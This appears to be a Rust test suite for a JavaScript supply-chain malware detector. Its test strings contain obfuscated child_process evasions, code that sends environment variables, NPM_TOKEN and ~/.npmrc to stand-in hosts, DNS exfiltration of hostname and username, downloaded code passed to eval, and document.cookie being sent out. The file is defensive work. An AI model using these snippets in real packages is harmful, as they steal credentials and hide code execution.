//! Capability resolution through every evasion the issue lists, and the look-alikes that
//! must stay silent.

use super::*;
use ferret_core::facts::Source;
use ferret_core::{Capability, ImportKind, StringFact, UseKind};

fn analyze(path: &str, src: &str) -> FileFacts {
    Analyzer::new().analyze(path, src)
}

/// `(capability, api, kind, line, column)` of every use, for compact assertions.
fn uses(f: &FileFacts) -> Vec<(Capability, String, UseKind, u32, u32)> {
    f.uses
        .iter()
        .map(|u| {
            (
                u.capability,
                u.api.clone(),
                u.kind,
                u.location.line,
                u.location.column,
            )
        })
        .collect()
}

fn has(f: &FileFacts, cap: Capability, api: &str, kind: UseKind) -> bool {
    f.uses
        .iter()
        .any(|u| u.capability == cap && u.api == api && u.kind == kind)
}

fn assert_has(src: &str, cap: Capability, api: &str, kind: UseKind) {
    let f = analyze("index.js", src);
    assert!(
        has(&f, cap, api, kind),
        "expected {cap:?} {api} {kind:?} in {src:?}, got {:#?}",
        uses(&f)
    );
}

fn assert_no(src: &str, cap: Capability) {
    let f = analyze("index.js", src);
    assert!(
        f.uses_of(cap).next().is_none(),
        "expected no {cap:?} in {src:?}, got {:#?}",
        uses(&f)
    );
}

const SHELL: Capability = Capability::Shell;
const NET: Capability = Capability::Network;
const DYN: Capability = Capability::DynamicCode;
const ENV: Capability = Capability::Env;

// ---------------------------------------------------------------- shell through evasions

#[test]
fn renamed_destructuring_of_concatenated_require_reports_the_call_line() {
    let src = "const {exec: run} = require('child_'+'process');\n run('id')";
    let f = analyze("index.js", src);
    assert_eq!(f.status, ParseStatus::Parsed);
    let call = f
        .uses
        .iter()
        .find(|u| u.api == "child_process.exec" && u.kind == UseKind::Call)
        .expect("exec call");
    assert_eq!((call.location.line, call.location.column), (2, 2));
    assert_eq!(call.code.text, " run('id')");
    let import = f
        .uses
        .iter()
        .find(|u| u.kind == UseKind::Import)
        .expect("import");
    assert_eq!((import.location.line, import.location.column), (1, 21));
    assert_eq!(f.imports[0].specifier.as_deref(), Some("child_process"));
    let cf = f
        .calls
        .iter()
        .find(|c| c.callee == "child_process.exec")
        .expect("call fact");
    assert_eq!(cf.args, vec![Some("id".to_string())]);
    assert!(cf.top_level);
}

#[test]
fn shell_through_every_evasion() {
    let cases = [
        "require('child_process').exec('id')",
        "require('node:child_process').execSync('id')",
        "const cp = require('child_process'); cp.spawn('id')",
        "const cp = require('child_process'); const {exec: e, spawn} = cp; e('id')",
        "const cp = require('child_process'); cp['ex'+'ec']('id')",
        "const m = `child_${'process'}`; require(m).exec('id')",
        "require(['chi','ld_process'].join('')).exec('id')",
        "require('ssecorp_dlihc'.split('').reverse().join('')).exec('id')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString()).exec('id')",
        "require(Buffer.from('6368696c645f70726f63657373','hex').toString('utf8')).exec('id')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('id')",
        "require('child'.concat('_', 'process')).exec('id')",
        "require(decodeURIComponent('child%5Fprocess')).exec('id')",
        "require('CHILD_PROCESS'.toLowerCase()).exec('id')",
        "module.require('child_process').exec('id')",
        "process.mainModule.require('child_process').exec('id')",
        "global.require('child_process').exec('id')",
        "globalThis['req'+'uire']('child_process').exec('id')",
        "require.call(null, 'child_process').exec('id')",
        "const r = require; r('child_process').exec('id')",
        "const {execSync} = require('child_process'); execSync('id')",
        "const a = 'child', b = '_process'; require(a + b).fork('x.js')",
        "import('child_process').then(cp => cp.exec('id'))",
    ];
    for src in cases {
        let f = analyze("index.js", src);
        assert!(
            f.uses
                .iter()
                .any(|u| u.capability == SHELL && u.kind == UseKind::Import),
            "no shell import in {src:?}: {:#?}",
            uses(&f)
        );
        if !src.starts_with("import(") {
            assert!(
                f.uses
                    .iter()
                    .any(|u| u.capability == SHELL && u.kind == UseKind::Call),
                "no shell call in {src:?}: {:#?}",
                uses(&f)
            );
        }
    }
}

#[test]
fn esm_imports_resolve_members() {
    let src = "import * as cp from 'node:child_process';\nimport {spawn as s} from 'child_process';\nimport def from 'child_process';\ncp.exec('a'); s('b'); def.execFile('c');";
    let f = analyze("index.mjs", src);
    for api in [
        "child_process.exec",
        "child_process.spawn",
        "child_process.execFile",
    ] {
        assert!(has(&f, SHELL, api, UseKind::Call), "{api}: {:#?}", uses(&f));
    }
    assert_eq!(f.imports.len(), 3);
    assert!(f.imports.iter().all(|i| i.kind == ImportKind::Static));
    assert!(
        f.uses
            .iter()
            .filter(|u| u.kind == UseKind::Call)
            .all(|u| u.location.line == 4)
    );
}

#[test]
fn await_dynamic_import_gives_the_module() {
    let src = "async function f() { const cp = await import('child_process'); cp.exec('id'); }";
    let f = analyze("index.mjs", src);
    assert!(
        has(&f, SHELL, "child_process.exec", UseKind::Call),
        "{:#?}",
        uses(&f)
    );
    assert_eq!(f.imports[0].kind, ImportKind::Dynamic);
    let cf = f
        .calls
        .iter()
        .find(|c| c.callee == "child_process.exec")
        .expect("call");
    assert!(!cf.top_level);
}

#[test]
fn export_star_from_is_an_import() {
    let f = analyze("index.mjs", "export * from 'net'; export {x} from 'fs';");
    assert!(has(&f, NET, "net", UseKind::Import));
    assert!(has(&f, Capability::Filesystem, "fs", UseKind::Import));
}

#[test]
fn process_binding_spawn_sync_is_shell() {
    assert_has(
        "process.binding('spawn_sync').spawn({})",
        SHELL,
        "process.binding('spawn_sync')",
        UseKind::Call,
    );
    assert_has(
        "process.binding('fs')",
        Capability::Debug,
        "process.binding",
        UseKind::Call,
    );
}

#[test]
fn shell_libraries() {
    assert_has(
        "const execa = require('execa'); execa('ls')",
        SHELL,
        "execa",
        UseKind::Call,
    );
    assert_has(
        "require('shelljs').exec('ls')",
        SHELL,
        "shelljs.exec",
        UseKind::Call,
    );
}

// ---------------------------------------------------------------- network

#[test]
fn network_globals_through_aliases() {
    for src in [
        "fetch('https://example.invalid')",
        "globalThis['fe'+'tch']('https://example.invalid')",
        "window.fetch('https://example.invalid')",
        "self.fetch('https://example.invalid')",
        "global.fetch('https://example.invalid')",
        "const f = fetch; f('https://example.invalid')",
        "fetch?.('https://example.invalid')",
    ] {
        assert_has(src, NET, "fetch", UseKind::Call);
    }
    assert_has(
        "new WebSocket('wss://example.invalid')",
        NET,
        "WebSocket",
        UseKind::Construct,
    );
    assert_has(
        "new XMLHttpRequest()",
        NET,
        "XMLHttpRequest",
        UseKind::Construct,
    );
    assert_has(
        "navigator.sendBeacon('https://example.invalid', d)",
        NET,
        "navigator.sendBeacon",
        UseKind::Call,
    );
    assert_has(
        "require('https').get('https://example.invalid')",
        NET,
        "https.get",
        UseKind::Call,
    );
    assert_has(
        "const WS = require('ws'); new WS('wss://x.example')",
        NET,
        "ws",
        UseKind::Construct,
    );
    assert_has(
        "import axios from 'axios'; axios.post('u', {})",
        NET,
        "axios.post",
        UseKind::Call,
    );
}

#[test]
fn fetch_call_fact_has_folded_url() {
    let f = analyze(
        "index.js",
        "const host = 'example' + '.invalid'; fetch(`https://${host}/x`)",
    );
    let cf = f
        .calls
        .iter()
        .find(|c| c.callee == "fetch")
        .expect("fetch call");
    assert_eq!(cf.args, vec![Some("https://example.invalid/x".to_string())]);
    assert!(
        f.strings
            .iter()
            .any(|s| s.folded && s.value == "https://example.invalid/x")
    );
    assert!(
        f.strings
            .iter()
            .any(|s| s.folded && s.value == "example.invalid")
    );
}

#[test]
fn hooking_fetch_and_xhr_is_a_write() {
    assert_has("window.fetch = function(){}", NET, "fetch", UseKind::Write);
    assert_has(
        "XMLHttpRequest.prototype.open = function(){}",
        NET,
        "XMLHttpRequest.prototype.open",
        UseKind::Write,
    );
}

// ---------------------------------------------------------------- env

#[test]
fn env_reads_record_names() {
    let f = analyze(
        "index.js",
        "const a = process.env.HOME;\nconst b = process.env['NPM_' + 'TOKEN'];\nconst {USER, PATH: p} = process.env;\nconst e = process.env; e.AWS_KEY;",
    );
    let reads: Vec<(Option<&str>, u32)> = f
        .uses
        .iter()
        .filter(|u| u.capability == ENV && u.kind == UseKind::Read)
        .map(|u| (u.detail.as_deref(), u.location.line))
        .collect();
    assert_eq!(
        reads,
        vec![
            (Some("HOME"), 1),
            (Some("NPM_TOKEN"), 2),
            (Some("USER"), 3),
            (Some("PATH"), 3),
            (Some("AWS_KEY"), 4)
        ]
    );
}

#[test]
fn whole_env_reads() {
    for src in [
        "JSON.stringify(process.env)",
        "Object.entries(global.process.env)",
        "const x = {...process.env}",
        "send(process.env)",
        "const {A, ...rest} = process.env",
    ] {
        let f = analyze("index.js", src);
        assert!(
            f.uses
                .iter()
                .any(|u| u.capability == ENV && u.detail.as_deref() == Some("*")),
            "{src}: {:#?}",
            uses(&f)
        );
    }
    let f = analyze(
        "index.js",
        "const h = process.env.HOME; if (process.env.CI) {}",
    );
    assert!(
        f.uses.iter().all(|u| u.detail.as_deref() != Some("*")),
        "{:#?}",
        uses(&f)
    );
    assert_eq!(f.uses_of(ENV).count(), 2);
}

#[test]
fn env_key_enumeration_is_not_a_whole_env_read() {
    // `debug` reads its `DEBUG_*` options this way: names, not values.
    let f = analyze(
        "index.js",
        "Object.keys(process.env).filter(k => /^debug_/i.test(k))",
    );
    let details: Vec<_> = f.uses_of(ENV).filter_map(|u| u.detail.as_deref()).collect();
    assert_eq!(details, ["keys"]);
}

// ------------------------------------------------------------------------------ data flow

fn call<'f>(f: &'f FileFacts, callee: &str) -> &'f ferret_core::CallFact {
    f.calls
        .iter()
        .find(|c| c.callee == callee)
        .unwrap_or_else(|| panic!("no call {callee}: {:#?}", f.calls))
}

#[test]
fn calls_carry_their_function_scope() {
    let src = "fetch('a');\nfunction f() { fetch('b'); const g = () => fetch('c'); }\nfetch('d');";
    let f = analyze("index.js", src);
    let scopes: Vec<(Option<&str>, u32)> = f
        .calls
        .iter()
        .map(|c| (c.args[0].as_deref(), c.scope))
        .collect();
    assert_eq!(
        scopes,
        [
            (Some("a"), 0),
            (Some("b"), 1),
            (Some("c"), 2),
            (Some("d"), 0)
        ]
    );
    assert_eq!(f.functions.len(), 2);
    // Uses and strings find their scope from their location.
    let at = |needle: &str| src.find(needle).map_or(u32::MAX, |o| o as u32);
    assert_eq!(f.scope_at(at("'c'")), 2);
    assert_eq!(f.scope_at(at("'b'")), 1);
    assert_eq!(f.scope_at(at("'d'")), 0);
}

#[test]
fn env_flows_into_a_request_body_through_locals() {
    let src = "const https = require('https');
const env = JSON.stringify(process.env);
const data = require('querystring').stringify({ data: env });
const req = https.request({ host: 'x.example', method: 'POST' });
req.write(data);
req.end(Buffer.from(process.env.NPM_TOKEN).toString('base64'));";
    let f = analyze("index.js", src);
    let write = call(&f, "https.request().write");
    assert_eq!(write.arg_sources, [vec![Source::EnvAll]]);
    let end = call(&f, "https.request().end");
    assert_eq!(end.arg_sources, [vec![Source::EnvVar]]);
    assert!(has(
        &f,
        Capability::Network,
        "https.request().write",
        UseKind::Call
    ));
    // The request options carry nothing.
    assert!(call(&f, "https.request").arg_sources.is_empty());
}

#[test]
fn sources_reach_urls_dns_names_and_eval() {
    let src = "const os = require('os'), dns = require('dns'), fs = require('fs');
const h = os.hostname() + '.' + os.userInfo().username;
dns.lookup(`${h}.x.example`, () => {});
let q; q = encodeURIComponent(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));
fetch('https://x.example/?q=' + q);
(async () => { const body = await (await fetch('https://x.example/s')).text(); eval(body); })();
eval(atob('Y29uc29sZS5sb2coMSk7IGZldGNoKCk='));";
    let f = analyze("index.js", src);
    assert_eq!(call(&f, "dns.lookup").arg_sources[0], [Source::SystemInfo]);
    let fetches: Vec<_> = f.calls.iter().filter(|c| c.callee == "fetch").collect();
    assert_eq!(fetches[0].arg_sources, [vec![Source::FileRead]]);
    let evals: Vec<_> = f.calls.iter().filter(|c| c.callee == "eval").collect();
    assert_eq!(evals[0].arg_sources, [vec![Source::Download]]);
    assert_eq!(evals[1].arg_sources, [vec![Source::Decoded]]);
}

#[test]
fn taint_follows_chunks_into_iteration_callbacks() {
    // DNS exfiltration splits the data into labels and looks each one up in a callback.
    let src = "const dns = require('dns'), os = require('os');
const hex = Buffer.from([os.hostname(), os.userInfo().username].join('|')).toString('hex');
const chunks = hex.match(/.{1,50}/g) || [];
chunks.forEach((c, i) => { dns.lookup(`${c}.${i}.x.example`, () => {}); });
[1, 2].forEach((n) => dns.lookup(`${n}.x.example`, () => {}));";
    let f = analyze("index.js", src);
    let lookups: Vec<_> = f
        .calls
        .iter()
        .filter(|c| c.callee == "dns.lookup")
        .collect();
    assert_eq!(lookups[0].arg_sources[0], [Source::SystemInfo]);
    assert!(lookups[1].arg_sources.is_empty());
}

#[test]
fn untainted_calls_record_no_sources() {
    let src = "const os = require('os');
const names = Object.keys(process.env);
fetch('https://x.example', { body: JSON.stringify(names), headers: { 'x': os.platform() } });";
    let f = analyze("index.js", src);
    assert!(call(&f, "fetch").arg_sources.is_empty(), "{:#?}", f.calls);
}

#[test]
fn calls_on_channel_objects_are_recorded() {
    let src = "const net = require('net');
const s = new net.Socket(); s.connect(4444, '198.51.100.7'); s.write(process.env.HOME);
const c = net.connect(1); c.write('x');
const x = new XMLHttpRequest(); x.open('POST', 'https://x.example'); x.send(document.cookie);
new module.constructor()._compile(code, 'x.js');";
    let f = analyze("index.js", src);
    assert_eq!(
        call(&f, "net.Socket().connect").args[1].as_deref(),
        Some("198.51.100.7")
    );
    assert_eq!(
        call(&f, "net.Socket().write").arg_sources,
        [vec![Source::EnvVar]]
    );
    call(&f, "net.connect().write");
    assert!(has(
        &f,
        Capability::Network,
        "XMLHttpRequest.prototype.send",
        UseKind::Call
    ));
    assert!(has(
        &f,
        Capability::DynamicCode,
        "module._compile",
        UseKind::Call
    ));
}

#[test]
fn spawn_argv_arrays_are_folded_to_a_command_line() {
    let src =
        "require('child_process').spawn('curl', ['-d', '@' + '~/.npmrc', 'https://x.example']);";
    let f = analyze("index.js", src);
    let c = call(&f, "child_process.spawn");
    assert_eq!(c.args[1].as_deref(), Some("-d @~/.npmrc https://x.example"));
}

#[test]
fn taint_of_a_huge_concatenation_stays_bounded() {
    // A 20,000-term chain is walked iteratively, never recursively, and within fuel.
    let mut src = String::from("const a = process.env.X");
    for _ in 0..20_000 {
        src.push_str(" + b");
    }
    src.push_str(";\nfetch(a);");
    let f = analyze("index.js", &src);
    assert_eq!(call(&f, "fetch").arg_sources, [vec![Source::EnvVar]]);
}

#[test]
fn env_delete_is_a_write() {
    let f = analyze("index.js", "delete process.env.DEBUG;");
    assert_eq!(
        uses(&f),
        vec![(ENV, "process.env".to_string(), UseKind::Write, 1, 8)]
    );
}

#[test]
fn env_write_is_not_a_read() {
    let f = analyze("index.js", "process.env.NODE_ENV = 'production'");
    assert_eq!(
        uses(&f),
        vec![(ENV, "process.env".to_string(), UseKind::Write, 1, 1)]
    );
}

// ---------------------------------------------------------------- dynamic code

#[test]
fn eval_through_aliases() {
    for src in [
        "eval('1+1')",
        "(0, eval)('1+1')",
        "eval?.('1+1')",
        "const e = eval; e('1+1')",
        "globalThis['ev' + 'al']('1+1')",
        "window.eval('x')",
        "eval.call(null, 'x')",
    ] {
        assert_has(src, DYN, "eval", UseKind::Call);
    }
    assert_has(
        "new Function('return 1')()",
        DYN,
        "Function",
        UseKind::Construct,
    );
    assert_has("Function('return 1')()", DYN, "Function", UseKind::Call);
    assert_has(
        "setTimeout('alert(1)', 10)",
        DYN,
        "setTimeout(string)",
        UseKind::Call,
    );
    assert_has(
        "require('vm').runInNewContext('x')",
        DYN,
        "vm.runInNewContext",
        UseKind::Call,
    );
    assert_has(
        "const vm = require('vm'); new vm.Script('x')",
        DYN,
        "vm.Script",
        UseKind::Construct,
    );
    assert_has(
        "module._compile(src, 'x.js')",
        DYN,
        "module._compile",
        UseKind::Call,
    );
    assert_has("require(name)", DYN, "require(dynamic)", UseKind::Call);
    assert_has("import(name)", DYN, "import(dynamic)", UseKind::Call);
    assert_no("setTimeout(() => {}, 10)", DYN);
    assert_no("Function.prototype.toString.call(f)", DYN);
}

#[test]
fn encoded_payload_to_eval_records_folded_argument() {
    let f = analyze(
        "index.js",
        "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())",
    );
    let cf = f.calls.iter().find(|c| c.callee == "eval").expect("eval");
    assert_eq!(cf.args, vec![Some("console.log(1)".to_string())]);
    assert!(
        f.strings
            .iter()
            .any(|s| s.folded && s.value == "console.log(1)")
    );
}

#[test]
fn worker_with_eval_is_debug() {
    assert_has(
        "const {Worker} = require('worker_threads'); new Worker('code', {eval: true})",
        Capability::Debug,
        "worker_threads.Worker",
        UseKind::Construct,
    );
    assert_no(
        "const {Worker} = require('worker_threads'); new Worker('./w.js')",
        Capability::Debug,
    );
}

// ---------------------------------------------------------------- other capabilities

#[test]
fn filesystem_native_system_info_clipboard() {
    assert_has(
        "require('fs').readFileSync('/etc/passwd')",
        Capability::Filesystem,
        "fs.readFileSync",
        UseKind::Call,
    );
    assert_has(
        "require('fs').promises.readFile('x')",
        Capability::Filesystem,
        "fs.promises.readFile",
        UseKind::Call,
    );
    assert_has(
        "require('./build/Release/addon.node')",
        Capability::NativeCode,
        "./build/Release/addon.node",
        UseKind::Import,
    );
    assert_has(
        "process.dlopen(m, 'x.node')",
        Capability::NativeCode,
        "process.dlopen",
        UseKind::Call,
    );
    assert_has(
        "require('os').hostname()",
        Capability::SystemInfo,
        "os.hostname",
        UseKind::Call,
    );
    assert_has(
        "navigator.clipboard.readText()",
        Capability::Clipboard,
        "navigator.clipboard.readText",
        UseKind::Call,
    );
    assert_has(
        "require('inspector').open()",
        Capability::Debug,
        "inspector",
        UseKind::Import,
    );
    assert_no(
        "require('os').platform(); require('path').join('a','b')",
        Capability::SystemInfo,
    );
    assert_no("require('path').join('a','b')", Capability::Filesystem);
}

// ---------------------------------------------------------------- look-alikes

#[test]
fn local_require_is_not_the_builtin() {
    let f = analyze(
        "index.js",
        "function require(x) { return {exec() {}}; }\nrequire('child_process').exec('id');",
    );
    assert!(f.uses.is_empty(), "{:#?}", uses(&f));
    assert!(f.imports.is_empty());
    let f = analyze(
        "index.js",
        "function load(require) { require('child_process').exec('id') }",
    );
    assert!(f.uses.is_empty(), "{:#?}", uses(&f));
}

#[test]
fn strings_comments_and_data_are_not_capabilities() {
    for src in [
        "// require('child_process').exec('id')\nconst x = 1;",
        "/* fetch('https://example.invalid') */",
        "const name = 'child_process'; console.log(name);",
        "const o = {fetch: 1, eval: 2}; o.fetch;",
        "obj.fetch('x'); obj.eval('y'); a.b.exec('z')",
        "function f(fetch) { fetch('x') }",
        "const fetch = () => 1; fetch('x')",
        "class A { eval() {} fetch() {} }",
    ] {
        let f = analyze("index.js", src);
        assert!(f.uses.is_empty(), "{src}: {:#?}", uses(&f));
    }
}

// ---------------------------------------------------------------- files, status, limits

#[test]
fn typescript_file_is_parsed() {
    let src = "import {exec} from 'child_process';\ninterface A { x: number }\nconst n: string = 'id' as string;\nexec(n!);\nimport fs = require('fs');\nfs.writeFileSync('a', 'b');";
    let f = analyze("src/index.ts", src);
    assert_eq!(f.kind, FileKind::TypeScript);
    assert_eq!(f.status, ParseStatus::Parsed);
    assert!(
        has(&f, SHELL, "child_process.exec", UseKind::Call),
        "{:#?}",
        uses(&f)
    );
    assert!(has(
        &f,
        Capability::Filesystem,
        "fs.writeFileSync",
        UseKind::Call
    ));
    let cf = f
        .calls
        .iter()
        .find(|c| c.callee == "child_process.exec")
        .expect("exec");
    assert_eq!(cf.args, vec![Some("id".to_string())]);
    let f = analyze("a.tsx", "const x = <div>{fetch('u')}</div>;");
    assert_eq!(f.status, ParseStatus::Parsed);
    assert!(has(&f, NET, "fetch", UseKind::Call));
}

#[test]
fn commonjs_and_top_level_return() {
    let f = analyze(
        "a.cjs",
        "if (x) return;\nrequire('child_process').exec('id')",
    );
    assert_eq!(f.status, ParseStatus::Parsed);
    assert!(
        has(&f, SHELL, "child_process.exec", UseKind::Call),
        "{:#?}",
        uses(&f)
    );
    let f = analyze("a.js", "if (x) return;\nrequire('https')");
    assert_eq!(f.status, ParseStatus::Parsed);
}

#[test]
fn parse_error_is_recorded_with_facts_kept() {
    let f = analyze(
        "bad.js",
        "require('child_process').exec('id');\nlet = = ;\n",
    );
    match &f.status {
        ParseStatus::Failed { message, location } => {
            assert!(!message.is_empty());
            assert_eq!(location.as_ref().map(|l| l.line), Some(2));
        }
        other => panic!("expected failure, got {other:?}"),
    }
}

#[test]
fn deep_nesting_is_skipped_on_a_small_stack() {
    let handle = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(|| {
            let src = format!("{}1{}", "(".repeat(100_000), ")".repeat(100_000));
            analyze("deep.js", &src)
        })
        .expect("spawn");
    let f = handle.join().expect("no crash");
    assert_eq!(
        f.status,
        ParseStatus::Skipped {
            reason: "nesting depth 100000 exceeds limit 1000".to_string()
        }
    );
    assert_eq!(f.text.lines, 1);
    assert_eq!(f.text.longest_line, 200_001);
}

#[test]
fn long_operator_chains_are_bounded() {
    let handle = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(|| {
            let long = format!("x = {}1;", "a+".repeat(200_000));
            let bangs = format!("x = {}1;", "!".repeat(60_000));
            let ok_unary = format!("x = {}1;", "! ".repeat(9_000));
            let ok = format!("x = {}'b';", "'a'+\n".repeat(5_000));
            (
                analyze("a.js", &long),
                analyze("b.js", &bangs),
                analyze("c.js", &ok_unary),
                analyze("d.js", &ok),
            )
        })
        .expect("spawn");
    let (long, bangs, ok_unary, ok) = handle.join().expect("no crash");
    assert!(
        matches!(long.status, ParseStatus::Skipped { .. }),
        "{:?}",
        long.status
    );
    assert!(
        matches!(bangs.status, ParseStatus::Skipped { .. }),
        "{:?}",
        bangs.status
    );
    // Below the limit, the analysis thread's stack carries the recursion.
    assert_eq!(ok_unary.status, ParseStatus::Parsed);
    assert_eq!(ok.status, ParseStatus::Parsed);
    // The 5,001-term concatenation folds without recursion.
    let s = ok.strings.iter().find(|s| s.folded).expect("folded");
    assert_eq!(s.len, 5_001);
}

#[test]
fn bracketless_nesting_is_counted() {
    let handle = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(|| {
            let ifs = format!("{}x;", "if (a)\n".repeat(60_000));
            let elses = format!("if (a) {{}}{}", "\nelse if (b) {{\n}}".repeat(60_000));
            let typeofs = format!("x = {}y;", "typeof ".repeat(60_000));
            [ifs, elses, typeofs].map(|s| analyze("k.js", &s).status)
        })
        .expect("spawn");
    for status in handle.join().expect("no crash") {
        assert!(
            matches!(&status, ParseStatus::Skipped { reason } if reason.starts_with("operator chain")),
            "{status:?}"
        );
    }
}

#[test]
fn deepest_accepted_chains_fit_the_analysis_stack() {
    // Just under the limits, the worst constructs must parse without overflowing (this
    // runs the debug build, whose frames are several times larger than release ones).
    let n = (MAX_OPERATOR_RUN - 10) as usize;
    let mut a = Analyzer::new();
    let elses = format!("if (a) {{}}{}", "else if (b) {{}}".repeat(n / 3));
    let bangs = format!("x = {}1;", "!".repeat(n));
    let nested = format!("x = {}1{};", "[(".repeat(490), ")]".repeat(490));
    for src in [elses, bangs, nested] {
        assert_eq!(a.analyze("deep.js", &src).status, ParseStatus::Parsed);
    }
}

#[test]
fn semicolon_free_code_is_not_skipped() {
    let src = "const a = require('x')\nfoo(bar.baz)\nlet y = a.b.c\n".repeat(20_000);
    assert_eq!(analyze("asi.js", &src).status, ParseStatus::Parsed);
}

#[test]
fn hostile_bytes_do_not_panic() {
    for src in [
        "\0\0\0require(\0)",
        "'unterminated",
        "`${`${`",
        "/*",
        "\u{feff}\u{202e}eval('x')",
        "require('\\u{63}hild_process')",
        "x = 'a'.repeat(1e9); String.fromCharCode(1e308, -1, NaN)",
        "Buffer.from('zz', 'hex').toString(); decodeURIComponent('%E0%A4%A'); 'abc'.substr(-9e18, 9e18)",
    ] {
        let f = analyze("x.js", src);
        assert_eq!(f.size, src.len() as u64);
    }
}

#[test]
fn strings_are_collected_with_caps() {
    let f = analyze(
        "s.js",
        "const a = 'abc'; const b = 'abcd'; const c = `long template`;",
    );
    let vals: Vec<&str> = f.strings.iter().map(|s| s.value.as_str()).collect();
    assert_eq!(vals, vec!["abcd", "long template"]);
    assert!(f.strings.iter().all(|s| !s.folded));
    let big = format!("const x = '{}';", "A".repeat(100_000));
    let f = analyze("s.js", &big);
    assert_eq!(f.strings[0].len, 100_000);
    assert_eq!(f.strings[0].value.len(), StringFact::MAX_CHARS);
}

#[test]
fn text_facts_from_the_line_index_agree() {
    let long = "f(a);".repeat(1_300);
    let texts = [
        String::new(),
        "\n".to_string(),
        "\n\n\n".to_string(),
        "a".to_string(),
        "a\n".to_string(),
        "a\r\nbb\r\n".to_string(),
        "é€\nabc".to_string(),
        format!("{}\n{long}\n{}", "é".repeat(300), "x;\n".repeat(50)),
        format!("'{}'\n{long}", "A".repeat(6_000)),
    ];
    for t in &texts {
        let plain = text_facts(t);
        let indexed = text_facts_indexed(t, &ferret_core::LineIndex::new(t));
        assert_eq!(
            (plain.lines, plain.longest_line, plain.minified),
            (indexed.lines, indexed.longest_line, indexed.minified),
            "{t:?}"
        );
    }
    assert_eq!(text_facts("\n\n\n").lines, 3);
}

#[test]
fn text_facts_detect_minified() {
    let t = text_facts("a\nbb\nccc");
    assert_eq!((t.lines, t.longest_line, t.minified), (3, 3, false));
    let minified = "function a(){return b(c);};".repeat(300);
    assert!(text_facts(&minified).minified);
    let blob = format!("const x = '{}';\n", "A".repeat(6_000)) + &"x;\n".repeat(100);
    assert!(!text_facts(&blob).minified);
    assert_eq!(text_facts("é€\n").longest_line, 2);
    // Characters, not bytes, across the counter's 255-byte blocks; a shorter line with more
    // bytes than the longest has characters does not replace it.
    let wide = format!("{}\n{}\n", "é".repeat(300), "ab".repeat(250));
    let t = text_facts(&wide);
    assert_eq!((t.lines, t.longest_line), (2, 500));
    let t = text_facts(&format!("{}\nabc", "€".repeat(1_000)));
    assert_eq!((t.lines, t.longest_line), (2, 1_000));
    // The code count belongs to the longest line: a long data line before it does not mark
    // the file minified, a long code line after it does.
    let short = "x;\n".repeat(100);
    let data_then_code = format!(
        "'{}'\n{}\n{short}",
        "A".repeat(6_000),
        "f(a);".repeat(1_300)
    );
    assert!(text_facts(&data_then_code).minified);
    let code_then_data = format!(
        "{}\n'{}'\n{short}",
        "f(a);".repeat(1_300),
        "A".repeat(7_000)
    );
    assert!(!text_facts(&code_then_data).minified);
}

#[test]
fn paths_and_kinds() {
    for p in [
        "a.js", "b/c.cjs", "x.mjs", "y.jsx", "z.ts", "t.tsx", "m.mts", "c.cts", "d.d.ts",
    ] {
        assert!(is_js_path(p), "{p}");
    }
    for p in ["a.json", "js", "a.js.map", "README.md", "a.node"] {
        assert!(!is_js_path(p), "{p}");
    }
    assert_eq!(
        analyze("d.d.ts", "declare const x: number;").kind,
        FileKind::TypeScript
    );
}

#[test]
fn analyzer_is_reusable() {
    let mut a = Analyzer::new();
    for i in 0..20 {
        let f = a.analyze("x.js", &format!("require('net').connect({i})"));
        assert!(has(&f, NET, "net.connect", UseKind::Call));
    }
}

#[test]
fn large_constants_used_often_stay_bounded() {
    let src = format!(
        "const s = '{}';\n{}\nfetch(s + 'x');\nrequire('child_process');",
        "A".repeat(900_000),
        "s[i]; s.length; f(s);\n".repeat(20_000)
    );
    let start = std::time::Instant::now();
    let f = analyze("big.js", &src);
    assert_eq!(f.status, ParseStatus::Parsed);
    // Without fuel for copies this is 60,000 copies of 900 KB (54 GB).
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
    assert!(has(&f, NET, "fetch", UseKind::Call));
    assert!(
        has(&f, SHELL, "child_process", UseKind::Import),
        "{:#?}",
        uses(&f)
    );
}

/// The table-driven prescan decides every input as the byte-by-byte one did: token soup of
/// every kind of byte it treats differently, long enough to take the slow path, with and
/// without limits being crossed.
#[test]
fn prescan_matches_the_reference() {
    let pieces: [&str; 24] = [
        "if",
        "else",
        "typeof",
        "in",
        "instanceof",
        "x1",
        "$a_",
        " ",
        "\t",
        "\r\n",
        "\n",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        ",",
        ";",
        "+",
        "!",
        "'s\\'t'",
        "/* c */",
        "// c\n",
    ];
    let extra: [&str; 8] = ["`t${a}`", "\"d\"", "123", "é", "#", "@", "/", "\\"];
    let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let mut errors = 0;
    for round in 0..60 {
        let mut text = String::new();
        // Biased towards one kind of piece per round so limits are sometimes crossed.
        let favourite = (next() % 32) as usize;
        let target = 50_001 + (next() % 40_000) as usize;
        while text.len() < target {
            let r = (next() % 100) as usize;
            let piece = if r < 35 {
                if favourite < pieces.len() {
                    pieces[favourite]
                } else {
                    extra[favourite % extra.len()]
                }
            } else if r < 90 {
                pieces[(next() as usize) % pieces.len()]
            } else {
                extra[(next() as usize) % extra.len()]
            };
            text.push_str(piece);
        }
        let got = prescan(&text);
        let want = prescan_reference(&text);
        assert_eq!(got, want, "round {round}, favourite {favourite}");
        errors += usize::from(got.is_err());
    }
    // Both outcomes were exercised.
    assert!(errors > 0 && errors < 60, "{errors} of 60 rejected");
}
